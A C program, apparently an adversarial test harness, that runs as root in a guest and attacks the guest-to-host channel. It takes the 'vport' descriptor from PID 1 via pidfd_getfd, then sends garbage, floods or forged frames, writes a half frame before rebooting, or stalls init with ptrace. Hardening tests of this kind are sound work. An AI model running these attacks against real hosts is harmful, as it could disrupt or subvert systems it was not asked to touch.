/*
 * Root of a guest against the channel to its host: takes the port out of the first process and speaks for it.
 *
 *   channel_attack garbage | flood | forge | half | stall
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { OUTPUT = 16, EXIT = 18, DONE = 20, FRAME = 9 };

/* The first process's descriptor of the port, as one of ours. */
static int stolen_port(void) {
    char path[64], target[64];
    int first = (int)syscall(SYS_pidfd_open, 1, 0);
    DIR *directory = opendir("/proc/1/fd");
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
        snprintf(path, sizeof path, "/proc/1/fd/%.20s", entry->d_name);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length <= 0)
            continue;
        target[length] = 0;
        if (strstr(target, "vport"))
            return (int)syscall(SYS_pidfd_getfd, first, atoi(entry->d_name), 0);
    }
    return -1;
}

static void say(int port, uint32_t length, uint8_t type, uint32_t stream, const char *payload, size_t count) {
    char frame[FRAME + 4096];
    memcpy(frame, &length, 4);
    frame[4] = (char)type;
    memcpy(frame + 5, &stream, 4);
    memcpy(frame + FRAME, payload, count);
    if (write(port, frame, FRAME + count) < 0)
        sleep(0);
}

int main(int count, char **words) {
    static char bytes[4096];
    const char *attack = count == 2 ? words[1] : "";
    if (!strcmp(attack, "stall")) {
        int status;
        ptrace(PTRACE_SEIZE, 1, 0, 0);
        ptrace(PTRACE_INTERRUPT, 1, 0, 0);
        waitpid(1, &status, __WALL);
        for (;;)
            pause();
    }
    int port = stolen_port();
    if (port < 0)
        return 3;
    fcntl(port, F_SETFL, 0);
    memset(bytes, 0xa5, sizeof bytes);
    if (!strcmp(attack, "half")) {
        say(port, 4000, OUTPUT, 1, bytes, 100);
        reboot(RB_AUTOBOOT);
    }
    if (!strcmp(attack, "forge")) /* somebody else's end: that of a stream that the host never began */
        say(port, 4, EXIT, 0x7fffffff, "\0\0\0", 4);
    for (;;) {
        if (!strcmp(attack, "garbage") && write(port, bytes, sizeof bytes) < 0)
            return 4;
        if (!strcmp(attack, "flood"))
            say(port, 0, DONE, 1, bytes, 0);
        if (!strcmp(attack, "forge"))
            pause();
    }
}
